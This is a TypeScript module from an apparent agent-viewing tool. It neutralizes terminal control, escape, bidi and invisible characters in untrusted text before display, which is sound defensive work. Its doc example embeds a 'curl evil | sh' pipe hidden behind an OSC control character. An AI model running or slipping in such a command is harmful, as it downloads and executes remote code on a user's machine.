import { createInvisibleMarker, invisibleNotation } from '@x/core';

/*
 * Everything that reaches a terminal from content is untrusted: an agent's
 * text, a file it read, a command a repository wrote, a tool name, a
 * diagnostic quoting a line of input, a file name on the command line. A
 * terminal interprets C0 controls (ESC starts every escape sequence, BEL ends
 * OSC strings, CR returns to the start of the line), C1 controls (U+009B is a
 * one-character CSI for terminals that accept 8-bit controls, U+009D an OSC,
 * U+0090 a DCS), bidi formatting characters (which reorder what a person
 * sees) and zero-width characters (which hide that two strings differ). Each
 * of them is replaced with its escape notation, `\x1b` or `\u202e`, so it
 * shows instead of acting, and nothing is removed: the payload of an escape
 * sequence stays on screen as the printable text it is, so a preview cannot
 * hide part of a command. Nothing else changes.
 */

// Which characters those are is @x/core's one definition, shared with the
// HTML page and `xview --events` (invisible-characters.ts): controls, format
// and default-ignorable characters by Unicode's properties (bidi controls,
// zero-width characters, tag characters that can spell a hidden command,
// Hangul fillers, the soft hyphen), line and paragraph separators (some
// terminals break lines at them). ZWNJ and ZWJ between two visible non-ASCII
// characters and one variation selector after one stay: they join Persian
// and Indic letters and build emoji. More than a few combining marks in a
// row (Zalgo text, which paints over the lines around it) show as notation
// after the first few.

const shown = (text: string, at: number): string => invisibleNotation(text.charCodeAt(at));
// Tab, LF and CR followed by LF lay text out; a lone CR would overwrite the line.
const markText = createInvisibleMarker({ also: new Map([['\r', (text, at) => (text.charCodeAt(at + 1) === 10 ? undefined : shown(text, at))]]) });
// A one-line field must not break its line either.
const markLine = createInvisibleMarker({
  also: new Map([
    ['\t', shown],
    ['\n', shown],
    ['\r', shown],
  ]),
});

/** How {@link neutralizeForTerminal} treats layout characters. */
export type TerminalLayout = 'line' | 'text';

/**
 * The one gate for every string from content that is written to a terminal,
 * by the terminal renderer and by `xview` on standard output and standard
 * error alike. C0 and C1 controls, DEL, the ESC of every escape sequence
 * (CSI, OSC, DCS, SOS, PM, APC and two-character ones), bidi controls and
 * zero-width, format and other invisible characters become visible escape
 * notation (`\x1b`, `\u202e`, `\u{e0041}`), and combining marks past a few
 * in a row too; nothing is executed and nothing is removed.
 *
 * `'line'` (the default), for a field shown on one line (a name, a preview,
 * a reason, a file name): TAB, LF and CR are made visible too. `'text'`, for
 * text that flows over lines: TAB, LF and CRLF stay, a lone CR is made
 * visible. A string without such characters is returned unchanged.
 *
 * @example
 * ```ts
 * neutralizeForTerminal('npm test\u009d; curl evil | sh\u0007'); // 'npm test\\x9d; curl evil | sh\\x07'
 * ```
 */
export function neutralizeForTerminal(text: string, layout: TerminalLayout = 'line'): string {
  return layout === 'text' ? markText(text) : markLine(text);
}

/** {@link neutralizeForTerminal} with the `'text'` layout: for text that flows over lines. */
export function sanitizeText(text: string): string {
  return neutralizeForTerminal(text, 'text');
}

/** {@link neutralizeForTerminal} with the `'line'` layout: for a field shown on one line. */
export function sanitizeLine(text: string): string {
  return neutralizeForTerminal(text, 'line');
}
